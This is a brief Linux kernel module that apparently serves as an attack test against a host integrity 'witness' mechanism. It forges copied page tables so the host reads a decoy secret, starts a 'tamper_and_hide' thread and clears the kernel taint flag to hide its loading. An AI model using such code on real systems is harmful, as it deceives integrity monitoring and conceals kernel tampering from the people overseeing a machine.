// SPDX-License-Identifier: GPL-2.0-only
/*
 * The host finds the handler's memory by the page table that the tally names. The tally
 * gets the address of a copy of that table. The copy leads to a copy of the page, with the honest
 * secret. A thread rewrites the tally meanwhile.
 */
#include "kernel.h"

#define PAGE		4096UL
#define ENTRIES		512
#define LEVELS		4
#define FRAME		0x000ffffffffff000UL	/* of an entry */
#define GFP_KERNEL	0xcc0

extern ulong page_offset_base;
ulong get_free_pages_noprof(unsigned int flags, unsigned int order);

static struct task_struct *thread;

static ulong copy_of(ulong physical)
{
	ulong copy = get_free_pages_noprof(GFP_KERNEL, 0);

	memcpy((void *)copy, (void *)(physical + page_offset_base), PAGE);
	return copy;
}

static void lay_decoy(void)
{
	ulong table = copy_of(umd_witness_tally.page_table), top = table, *entry, copy;
	int level;

	for (level = LEVELS - 1; level >= 0; level--) {
		entry = (ulong *)table + (HANDLER_SECRET >> (12 + 9 * level)) % ENTRIES;
		copy = copy_of(*entry & FRAME);
		*entry = (*entry & ~FRAME) | (copy - page_offset_base);
		table = copy;
	}
	umd_witness_tally.page_table = top - page_offset_base;
}

int init_module(void)
{
	lay_decoy();
	thread = start_thread(tamper_and_hide);
	clear_taint();
	return 0;
}

void cleanup_module(void)
{
	kthread_stop(thread);
}
